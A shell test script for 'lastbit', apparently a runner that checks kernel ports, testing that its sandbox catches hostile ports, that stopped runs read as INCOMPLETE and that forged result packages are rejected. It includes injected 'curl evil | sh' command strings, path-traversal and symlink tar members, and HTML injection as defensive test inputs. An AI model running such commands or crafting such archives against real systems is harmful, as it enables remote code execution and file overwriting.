#!/bin/sh
# Nobody cheats, and nothing partial reads as whole: hostile ports as root and as an ordinary user, runs that are
# stopped. Usage: test_attacks.sh LASTBIT BROKEN_PORTS VECTORS LASTBIT-HOST-WITHOUT-SECCOMP
set -u
lastbit=$1 ports=$2 vectors=$3 host_without_seccomp=$4
# With sanitizers too, a fence is what a port runs into.
export ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}handle_segv=0:handle_sigbus=0:handle_abort=0:detect_leaks=0"
. "$(dirname "$0")/expect.sh"

run() { "$lastbit" run --diagnose off "$@"; }

# ---- Hostile ports: what got through gives right numbers, what did not gives 77 (broken_ports/attack.h). ----

# What an ordinary user can read and run, for nobody where the test runs as root.
mkdir "$work/open"
cp "$lastbit" "$(dirname "$lastbit")/lastbit-host" "$ports"/attack_* "$ports/clean.so" "$vectors/relu.yaml" "$work/open/"
chmod 755 "$work" "$work/open" "$work/open"/*
sanitized=no
grep -q __asan_init "$ports/clean.so" && sanitized=yes
nobody='setpriv --reuid=65534 --regid=65534 --clear-groups'
[ "$(id -u)" -eq 0 ] || nobody=''

# caught WHO SANDBOX PORT: is it caught, or did it get through?
caught() {
    # shellcheck disable=SC2086
    (cd "$work/open" && $1 ./lastbit run --quiet --diagnose off --show 0 --sandbox "$2" --port "$3" relu.yaml) \
        >"$work/out" 2>&1
    case $?:$(tail -n 1 "$work/out") in
        0:*' 0 failed, 0 skipped') echo through ;;
        1:*' 12 failed, 0 skipped') echo caught ;;
        *) echo "neither: $(tail -n 1 "$work/out")" ;;
    esac
}
for who in '' "$nobody"; do
    for attack in descriptors files limits memory network oracle owner signals; do
        got=$(caught "$who" auto ./attack_$attack.so)
        [ "$got" = caught ] || wrong "$attack, as ${who:-$(id -un)}: $got"
    done
    # With sanitizers there is no limit of memory.
    [ $sanitized = yes ] || [ "$(caught "$who" auto ./attack_room.so)" = caught ] || wrong "it gets 16 GiB, as ${who:-$(id -un)}"
    # Without a sandbox these get through: the ports can do what they try.
    for attack in files limits network oracle owner processes room signals; do
        got=$(caught "$who" off ./attack_$attack.so)
        [ "$got" = through ] || wrong "$attack without a sandbox, as ${who:-$(id -un)}: $got"
    done
    # A program may do what its user may, but not reach into its judge.
    got=$(caught "$who" auto exec:./attack_agent)
    [ "$got" = caught ] || wrong "memory, by a program, as ${who:-$(id -un)}: $got"
done
# Types at the terminal that lastbit runs on; only there is something to get at.
for who in '' "$nobody"; do
    for sandbox in auto off; do
        cat >"$work/open/at_terminal" <<END
cd "$work/open" && $who ./lastbit run --quiet --diagnose off --show 0 --color never --jobs 1 --sandbox $sandbox \
    --port ./attack_terminal.so relu.yaml
END
        script -qec ". $work/open/at_terminal" /dev/null </dev/null >"$work/out" 2>&1
        grep -q ' 12 failed, 0 skipped' "$work/out" && got=caught || got=through
        # Without the sandbox it depends on the system: of root, and with an older kernel or setting, it gets through.
        [ $sandbox = auto ] && [ $got = through ] && wrong "it types at the terminal, as ${who:-$(id -un)}"
        [ $sandbox = off ] && [ "$who" = '' ] && [ "$(id -u)" -eq 0 ] && [ $got = caught ] && wrong "root types nothing at the terminal"
    done
done
if [ "$(id -u)" -eq 0 ]; then
    [ "$(caught '' off ./attack_memory.so)" = through ] || wrong "root without a sandbox cannot read memory"
    [ "$(caught '' off exec:./attack_agent)" = through ] || wrong "a program of root cannot read memory"
fi

# The report says what keeps the port apart; where not all of it is permitted, --sandbox require fails. Processes of root are
# counted nowhere.
mkdir -m 777 "$work/said"
for who in '' "$nobody"; do
    # shellcheck disable=SC2016,SC2086
    expect 0 ' 0 failed' sh -c 'cd "$1" && shift && exec "$@"' - "$work/open" $who ./lastbit run --quiet --port ./clean.so \
        --report "$work/said" relu.yaml
    apart=$(sed -n 's/.*"port_sandbox":"\([^"]*\)".*/\1/p' "$work/said/results.json")
    case $apart in 'a process of its own, '*) ;; *) wrong "the results tell no sandbox: $apart" ;; esac
    grep -q 'kept apart by' "$work/said/report.html" || wrong "the page tells no sandbox"
    expect 0 'Kept apart by' "$lastbit" report statement "$work/said/results.json" -o -
    echo "$apart" >"$work/sandbox"
    rm -rf "$work/said"/*
    case $apart in
        *'not permitted here'*) status=3 words='require, and not all of it is permitted' ;;
        *) status=0 words=' 0 failed' ;;
    esac
    # shellcheck disable=SC2016,SC2086
    expect $status "$words" sh -c 'cd "$1" && shift && exec "$@"' - "$work/open" $who ./lastbit run --quiet --sandbox require \
        --port ./clean.so relu.yaml
    case $apart in
        *'limit of processes'*) ;;
        *) [ "$(caught "$who" auto ./attack_processes.so)" = caught ] || wrong "300 processes, as ${who:-$(id -un)}" ;;
    esac
done
expect 0 ' 0 failed' "$lastbit" run --quiet --sandbox off --port "$ports/clean.so" --report "$work/apart" \
    "$vectors/relu.yaml"
grep -q '"port_sandbox":"a process of its own alone: --sandbox off"' "$work/apart/results.json" ||
    wrong "the results do not say that the sandbox was off"

# ---- Where less is permitted, or built in: it says so and goes on. ----

# Who may make no namespaces: a user namespace with limits of its own forbids them. (Where not even that one is permitted,
# the tests above were without them.)
mkdir "$work/less"
cp "$work/open"/* "$work/less"
cp "$host_without_seccomp" "$work/less/lastbit-host"
chmod 755 "$work/less" "$work/less"/*
without_namespaces='for n in user mnt pid; do echo 0 >/proc/sys/user/max_${n}_namespaces; done && exec "$@"'
box() { # FOLDER WORD...: what keeps a clean port apart
    (cd "$work/$1" && shift && "$@" ./lastbit run --quiet --diagnose off --port ./clean.so --report "$work/box" relu.yaml) \
        >"$work/out" 2>&1 || complain "a clean port fails in $1"
    sed -n 's/.*"port_sandbox":"\([^"]*\)".*/\1/p' "$work/box/results.json"
    rm -rf "$work/box"
}
# boxed_less FOLDER KEPT OPEN: what is kept by and what is open, as patterns; a run that requires all of it fails.
boxed_less() {
    got=$(box "$1" unshare -r sh -c "$without_namespaces" -)
    echo "$got" | grep -q "^a process of its own, *$2; not permitted here: $3\$" || wrong "$1, no namespaces: $got"
    (cd "$work/$1" && expect 3 'require, and not all of it is permitted' unshare -r sh -c "$without_namespaces" - ./lastbit \
        run --quiet --sandbox require --port ./clean.so relu.yaml && [ "$failed" -eq 0 ]) || wrong "$1: --sandbox require"
    # Whatever may be open, no port gets at its judge.
    for attack in $4; do
        (cd "$work/$1" && unshare -r sh -c "$without_namespaces" - ./lastbit run --quiet --diagnose off --show 0 \
            --port ./attack_$attack.so relu.yaml) >"$work/out" 2>&1
        [ $? -eq 1 ] || complain "$1, no namespaces: attack_$attack"
    done
}
if unshare -r sh -c "$without_namespaces" - true 2>/dev/null; then
    boxed_less open 'Landlock, seccomp' 'limit of processes' 'descriptors files limits memory network oracle owner signals'
    boxed_less less Landlock '.*network.*limit of processes' 'descriptors files memory oracle'
fi
got=$(box less env)
echo "$got" | grep -q 'seccomp\|; not permitted here: .*network' || wrong "a host without seccomp: $got"
echo "$got" | grep -q '^a process of its own,.*seccomp' && wrong "a host without seccomp says that it has it: $got"

# ---- Beside buffers: in a library the processor stops whoever touches it, and the message says where. ----

# suite SIZE: one case whose input has so many bytes.
suite() {
    zeros=$(seq -s , "$1" | sed 's/[0-9][0-9]*/0/g')
    printf '{"format":"lastbit/cases-1","suite":"t","cases":[{"id":"a","function":"mli_krn_relu_fx8","config":{"type":"gen"},"inputs":{"in":{"type":"fx8","shape":[%s],"frac_bits":0,"data":[%s]}},"outputs":{"out":{"type":"fx8","shape":[%s],"frac_bits":0}}}]}' \
        "$1" "$zeros" "$1" >"$work/beside.json"
}
beside() { run --show 9 --port "$@" "$work/beside.json"; }
# A sanitizer's run-time library takes the fault for its own: that the port crashes is told, not where it read.
behind='it reads 1 byte behind in, element [0-9]* (its elements are 0 to [0-9]*)$'
in_front='it reads 1 byte in front of in, element -1 (its elements are 0 to [0-9]*)$'
if [ $sanitized = yes ]; then
    behind='the port crashed: signal 11' in_front=$behind
fi
suite 64
expect 1 "$behind" beside "$ports/reads_beside.so"
grep -q "$in_front" "$work/out" || wrong "a read in front of a buffer is not told"
suite 5
expect 1 "$in_front" beside "$ports/reads_beside.so"
expect 1 "$behind" beside "$ports/reads_beside.so" --misalign
for size in 5 64 5000; do
    suite $size
    for port in "$ports/before_the_start.so" "$ports/far_behind.so" "exec:$ports/before_the_start_agent" \
        "exec:$ports/far_behind_agent"; do
        expect 1 '^0 passed, 4 failed' beside "$port"
    done
    expect 0 '^4 passed' beside "$ports/clean.so"
    expect 0 '^4 passed' beside "$ports/clean.so" --misalign
done

# Nobody swallows these faults, or makes them go away: the first needs seccomp, the second Linux 6.10.
system=$(uname -r)
suite 4096
if [ $sanitized = no ] && grep -q seccomp "$work/sandbox"; then
    expect 1 "$in_front" beside "$ports/faults_handled.so"
    expect 1 "$behind" beside "$ports/faults_handled.so"
fi
if [ "${system%%.*}" -gt 6 ] || expr "$system" : '6\.[1-9][0-9]' >/dev/null; then
    where='it writes 4096 bytes in front of in'
    [ $sanitized = yes ] && where=$in_front
    expect 1 "$where" beside "$ports/pages_opened.so"
fi

# A program finds them as a library does, where its memory has pages; a crash ends one caller of an agent that listens.
for pair in 'in_front:reads 1 byte in front of in, row -1 (its rows are 0 to ' 'one_more:reads 1 byte behind in, row [0-9]* (its rows are 0 to '; do
    where=${pair#*:}
    [ "$in_front" = "$behind" ] && where='the port' # sanitizers, see above
    expect 1 "$where" "$lastbit" run --diagnose off --level smoke --show 99 \
        --port "exec:$ports/reads_${pair%%:*}_agent" "$vectors/permute.yaml" "$vectors/coverage_permute.jsonl"
done
"$ports/reads_one_more_agent" --listen 0 >"$work/listening" &
listener=$!
for _ in 1 2 3 4 5 6 7 8 9; do [ -s "$work/listening" ] || sleep 0.3; done
expect 1 '^[1-9][0-9]* passed, [1-9][0-9]* failed' "$lastbit" run --diagnose off --misalign \
    --port "tcp:127.0.0.1:$(sed 's/.*://' "$work/listening")" "$vectors/permute.yaml"
kill $listener
wait $listener 2>/dev/null

# In one function alone, at either end: the level smoke finds it, in whichever profile, and tells the row.
for pair in 'in_front:in front of in, row -1 (its rows are 0 to ' 'one_more:behind in, row [0-9]* (its rows are 0 to '; do
    where=${pair#*:}
    [ "$in_front" = "$behind" ] && where='' # sanitizers, see above
    for profile in all up-full up-reduced convergent-full convergent-reduced; do
        expect 1 "the port crashed: signal 11.*$where" run --level smoke -n $profile --show 99 \
            --port "$ports/reads_${pair%%:*}.so" "$vectors/permute.yaml" "$vectors/coverage_permute.jsonl"
    done
done

# ---- A run that is stopped: whoever reads what is left of it must see that it is not whole. ----

# stop SIGNAL STATUS: the port hangs in its second case.
stop() {
    rm -rf "$work/r"
    mkdir "$work/r"
    for old in results.json report.html summary.md junit.xml; do echo old >"$work/r/$old"; done
    "$lastbit" run --diagnose off --jobs 1 --time-limit 60 --port "$ports/hangs.so" --report "$work/r" \
        "$vectors/l2_normalize.yaml" >"$work/out" 2>"$work/err" &
    runner=$!
    while ! sed 1d "$work/r/journal.jsonl" 2>/dev/null | grep -q order; do sleep 0.05; done
    kill -"$1" $runner
    wait $runner
    status=$?
    [ "$status" -eq "$2" ] || wrong "a run that is stopped by SIG$1 gives $status"
    sed -n '$p' "$work/out" | grep -q "^stopped: [0-9]* of $all results (signal $(($2 - 128)), " ||
        wrong "SIG$1: the last line is $(tail -n 1 "$work/out")"
    [ "$(ls "$work/r" | grep -v previous)" = journal.jsonl ] || wrong "SIG$1: documents of an older run are left: $(ls "$work/r")"
}
all=$("$lastbit" run --json - "$vectors/l2_normalize.yaml" 2>/dev/null | grep -c '"order"')
for pair in INT:130 TERM:143 HUP:129; do stop "${pair%:*}" "${pair#*:}"; done

for kind in html markdown statement junit tap github azure teamcity gitlab sarif csv; do
    "$lastbit" report $kind "$work/r/journal.jsonl" -o "$work/doc" 2>"$work/err" || wrong "report $kind of a journal fails"
    grep -q "INCOMPLETE: [0-9]* of $all results" "$work/err" || wrong "report $kind does not say so on standard error"
    [ $kind = csv ] || grep -q INCOMPLETE "$work/doc" || wrong "$kind of a stopped run does not say INCOMPLETE"
    grep -q '\(All\|all\) [0-9]* results are right' "$work/doc" && wrong "$kind of a stopped run says that all is right"
done
"$lastbit" report html "$work/r/journal.jsonl" -o "$work/doc" 2>/dev/null
grep -q '<h1 id="verdict">INCOMPLETE</h1>' "$work/doc" || wrong "the headline of the page is not INCOMPLETE"

# A journal of a lastbit that did not count yet is not whole either.
sed '1s/"expected":[0-9]*,//' "$work/r/journal.jsonl" >"$work/old.jsonl"
expect 0 'how many the run was to have is not told' "$lastbit" report markdown "$work/old.jsonl" -o -

# Cases that words or levels choose are counted, shards too; what is whole says nothing.
for choice in "--case *relu6*" "--level smoke" "--shard 2/3" "--function *fx8 --exclude *relu1*"; do
    # shellcheck disable=SC2086
    set -- $choice
    run -n up-full "$@" --report "$work/w" "$vectors/relu.yaml" >"$work/out" || wrong "$choice: does not pass"
    count=$(grep -c '"order"' "$work/w/results.json")
    grep -q "\"expected\":$count[,}]" "$work/w/results.json" || wrong "$choice: $count results, others are expected"
    grep -q 'stopped\|INCOMPLETE' "$work/out" "$work/w/summary.md" && wrong "$choice: a whole run says that it is not"
    expect 0 . "$lastbit" report statement "$work/w/journal.jsonl" -o -
    "$lastbit" report statement "$work/w/journal.jsonl" -o - 2>&1 | grep -q INCOMPLETE &&
        wrong "$choice: the journal of a whole run is said to be short"
done

# --max-fail stops as well.
run -n up-full --jobs 1 --max-fail 1 --time-limit 1 --port "$ports/hangs.so" --report "$work/m" "$vectors/l2_normalize.yaml" \
    >"$work/out" 2>&1
sed -n '$p' "$work/out" | grep -q '^stopped: [0-9]* of [0-9]* results (--max-fail 1)$' ||
    wrong "--max-fail: the last line is $(tail -n 1 "$work/out")"
grep -q 'Failed, and INCOMPLETE' "$work/m/report.html" || wrong "--max-fail: the page does not say INCOMPLETE"

# ---- Time ----

# The first hang of a function takes the whole limit, the others a tenth of it, and say so.
begun=$(date +%s)
run --jobs 1 --time-limit 10 --show 99 --port "$ports/hangs.so" "$vectors/l2_normalize.yaml" >"$work/out"
[ $(($(date +%s) - begun)) -lt 100 ] || wrong "12 hanging results took $(($(date +%s) - begun)) s at --time-limit 10"
grep -q 'did not return within 10 s and was stopped$' "$work/out" || wrong "the first hang has not the whole limit"
grep -q 'within 1 s and was stopped; the function did not return before, so that the limit of 10 s' "$work/out" ||
    wrong "the run does not say that the limit is lower"
# A worker that its port has stopped goes on.
begun=$(date +%s)
run --jobs 1 --time-limit 2 --sandbox off --port "$ports/stops_its_worker.so" "$vectors/relu.yaml" >"$work/out" ||
    wrong "a port that stops its worker"
[ $(($(date +%s) - begun)) -lt 60 ] || wrong "a port that stops its worker takes $(($(date +%s) - begun)) s"

# ---- What a port has started ends with the run, whoever was killed before. ----

# end_named NAME: ends all processes of that name; how many there were.
end_named() {
    count=0
    for process in /proc/[0-9]*; do
        [ "$(cat "$process/comm" 2>/dev/null)" = "$1" ] && kill -9 "${process#/proc/}" && count=$((count + 1))
    done
    echo $count
}
for name in lb-mine lb-orphan; do cp "$(command -v sleep)" "$work/open/$name"; done
cp "$ports/leaves_orphans.so" "$work/open"
chmod 755 "$work/open"/*
for who in '' "$nobody"; do
    # The shell has started something before it becomes lastbit: that is not the port's.
    # shellcheck disable=SC2086,SC2016
    expect 1 'signal 9' sh -c 'cd "$1" || exit; shift; ./lb-mine 60 >/dev/null & exec "$@"' - "$work/open" $who ./lastbit run \
        --sandbox off --diagnose off -n up-full --case relu_fx8.relu6.format_copied --port ./leaves_orphans.so relu.yaml
    [ "$(end_named lb-orphan)" -eq 0 ] || wrong "as ${who:-$(id -un)}: what a library has left goes on, its keeper killed"
    [ "$(end_named lb-mine)" -eq 1 ] || wrong "as ${who:-$(id -un)}: a process that is older than lastbit was ended"
done
# shellcheck disable=SC2016
expect 2 . "$lastbit" port info "exec:setsid $work/open/lb-orphan 60 >/dev/null 2>&1 </dev/null & sleep 1; kill -9 \$PPID; sleep 9"
[ "$(end_named lb-orphan)" -eq 0 ] || wrong "what a program has left goes on, its keeper killed"

# ---- Small ones ----

expect 2 'PORT from 1 to 65535' "$lastbit" port info tcp:127.0.0.1:99999
mkfifo "$work/fifo"
expect 2 . timeout 20 "$lastbit" report markdown "$work/fifo" -o -
expect 2 . timeout 20 "$lastbit" report markdown /dev/zero -o -
expect 3 . sh -c '"$1" report csv "$2/w/results.json" -o - >&-' - "$lastbit" "$work"
mkdir "$work/pipe" && mkfifo "$work/pipe/journal.jsonl"
expect 2 'is no plain file' timeout 20 "$lastbit" run --resume --report "$work/pipe" "$vectors/relu.yaml"
expect 2 'is no plain file' timeout 20 "$lastbit" certify --cases 2 --resume --report "$work/pipe" --function '*argmax*'
# Links in a report folder: what they name stays as it is.
for link in journal.jsonl results.json.part results.json report.html gl-code-quality-report.json; do
    rm -rf "$work/links" && mkdir "$work/links" && echo kept >"$work/kept" && ln -s "$work/kept" "$work/links/$link"
    status=1 words=' failed'
    case $link in journal.jsonl | *.part) status=3 words="/$link: .*is a symbolic link" ;; esac
    expect $status "$words" run --annotate gitlab --port "$ports/exit_118.so" --report "$work/links" "$vectors/argmax.yaml"
    [ $link = journal.jsonl ] && expect 2 "$words" run --resume --report "$work/links" "$vectors/argmax.yaml"
    [ "$(cat "$work/kept")" = kept ] || wrong "$link: the file that a link names is written over"
done
"$lastbit" report markdown - -o - <"$work/w/results.json" >/dev/null 2>&1 || cat "$work/w/results.json" |
    "$lastbit" report markdown /dev/stdin -o - >/dev/null || wrong "results from a pipe are not read"

# report verify ends with the verdict.
run --diagnose off --port "$ports/exit_118.so" --report "$work/f" "$vectors/argmax.yaml" >/dev/null
"$lastbit" report package -o "$work/f.tar.gz" "$work/f/results.json" >/dev/null || wrong "no package"
expect 0 '^verified: [0-9]* members; the results say [0-9]* passed, [1-9][0-9]* failed, 0 skipped' \
    "$lastbit" report verify "$work/f.tar.gz"

# Results that were edited, and packaged again with documents of their own: what can be counted again is.
forge() { # WORDS SED-SCRIPT
    sed "$2" "$work/f/results.json" >"$work/forged.json"
    cmp -s "$work/forged.json" "$work/f/results.json" && wrong "$1: nothing was forged"
    "$lastbit" report package -o "$work/forged.tar.gz" "$work/forged.json" >/dev/null 2>&1
    expect 1 "$1" "$lastbit" report verify "$work/forged.tar.gz"
}
forge 'profiles_all is 1' 's/"profiles_all":4/"profiles_all":1/'
forge 'profiles_tried is 3' 's/"profiles_tried":4/"profiles_tried":3/'
forge '"expected" is 7' 's/"expected":[0-9]*/"expected":7/'
forge 'no plain call of lastbit' 's/"reproduce":"lastbit run/"reproduce":"curl evil | sh; lastbit run/'
forge 'no plain call of lastbit' 's/"reproduce":"lastbit run [^"]*/&; curl evil/'
# Figures of a port that is right are those of the models.
run --port "$ports/clean.so" --report "$work/f" "$vectors/argmax.yaml" "$vectors/conv2d.yaml" >/dev/null
"$lastbit" report package -o "$work/f.tar.gz" "$work/f/results.json" >/dev/null || wrong "no package"
expect 0 '^not recomputed: .*times' "$lastbit" report verify "$work/f.tar.gz"
forge 'points of coverage are reached in the results, but [0-9]* by its cases' 's/"hit":[0-9]*/"hit":3/'
forge 'points of coverage in the results, and there are' 's/"points":[0-9]*/"points":9999/'
forge 'point of coverage .* is missed by one of results and models' 's/"missed":\["[^"]*"/"missed":["value.none [up-full]"/'
forge 'max_steps is .* by the models' 's/"max_steps":[0-9.]*/"max_steps":0.001/'
forge 'mean_steps is ' 's/"mean_steps":[-0-9.e]*/"mean_steps":0.0001/'
forge 'snr_db is ' 's/"snr_db":[0-9.]*/"snr_db":99.5/'
forge 'used_percent is ' 's/"used_percent":[0-9.]*/"used_percent":1/'
forge 'of a limit are used' 's/"used_percent":[0-9.]*/"used_percent":101/'
forge 'the limit is ' 's/"limit":[0-9.]*/"limit":40/'
forge 'held against the real model is 0' 's/"tolerances":\[[^]]*\][^]]*\]/"tolerances":[]/'

# Limits of a policy are those of its lines.
printf 'format: lastbit/tolerance-1\nlimits:\n  - {function: "*", max_steps: 9}\n' >"$work/pol.yaml"
run --tolerance "$work/pol.yaml" --report "$work/f" "$vectors/argmax.yaml" "$vectors/conv2d.yaml" >/dev/null
"$lastbit" report package -o "$work/f.tar.gz" "$work/f/results.json" >/dev/null || wrong "no package"
expect 0 '^verified: ' "$lastbit" report verify "$work/f.tar.gz"
forge 'the limit is 90 in the results, but 9 by the models' 's/"limit":9,/"limit":90,/'
forge 'the source of a limit is' 's/pol.yaml:3"/pol.yaml:4"/'
forge 'other.yaml:3" in the results, but "' 's/pol.yaml:3"/other.yaml:3"/'

# Results that say a thing twice, or no number where one is due, in whichever document.
refused() { # WORDS SED-SCRIPT
    sed "$2" "$work/f/results.json" >"$work/forged.json"
    cmp -s "$work/forged.json" "$work/f/results.json" && wrong "$1: nothing was forged"
    for kind in html markdown junit csv; do expect 2 "$1" "$lastbit" report $kind "$work/forged.json" -o "$work/doc"; done
}
refused '"verdict" stands there twice' 's/"verdict":"pass"/"verdict":"fail","verdict":"pass"/'
refused '"profiles_all" stands there twice' 's/"profiles_all":4/"profiles_all":4,"profiles_all":1/'
refused 'not valid JSON' 's/"microseconds":[0-9.e-]*/"microseconds":NaN/'
refused 'is beyond the range of numbers' 's/"microseconds":[0-9.e-]*/"microseconds":1e999/'
refused 'must be a whole number from 0' 's/"order":0,/"order":-1,/'

# Members of a package that would stand elsewhere, that are links, that are there twice.
pack_member() { # WORDS TAR-OPTION...
    words=$1 && shift
    (cd "$work/evil" && tar -czPf ../evil.tar.gz --owner 0 --group 0 "$@") || wrong "tar fails"
    expect 1 "$words" "$lastbit" report verify "$work/evil.tar.gz"
}
mkdir -p "$work/evil/lastbit-package/suites" && echo x >"$work/evil/lastbit-package/results.json"
outside='a package has no such member'
pack_member "$outside" --transform 's,^lastbit-package,lastbit-package/../..,' lastbit-package/results.json
pack_member "$outside" --transform "s,^lastbit-package,$work/away," lastbit-package/results.json
pack_member "$outside" --hard-dereference lastbit-package/results.json lastbit-package/results.json
[ -e "$work/away" ] && wrong "a member is written where it says"
rm -r "$work/evil/lastbit-package/suites" && ln -s "$work" "$work/evil/lastbit-package/suites"
pack_member 'a member is no plain file' lastbit-package/suites

# Names and shapes of strangers, on pages and in the terminal.
run --port "$ports/padding_with_zero.so" --report "$work/g" "$vectors/conv2d.yaml" >/dev/null
sed 's/"map_shape":"[^"]*"/"map_shape":"<b>9<\/b>,<i>4"/' "$work/g/results.json" >"$work/shape.json"
grep -q '<b>9' "$work/shape.json" || wrong "no result has a map"
expect 0 '' "$lastbit" report html "$work/shape.json" -o "$work/shape.html"
grep -q '<b>9\|<i>4' "$work/shape.html" && wrong "the shape of a map is written as it stands"

[ $failed -eq 0 ] && echo "attacks: as expected"
exit $failed
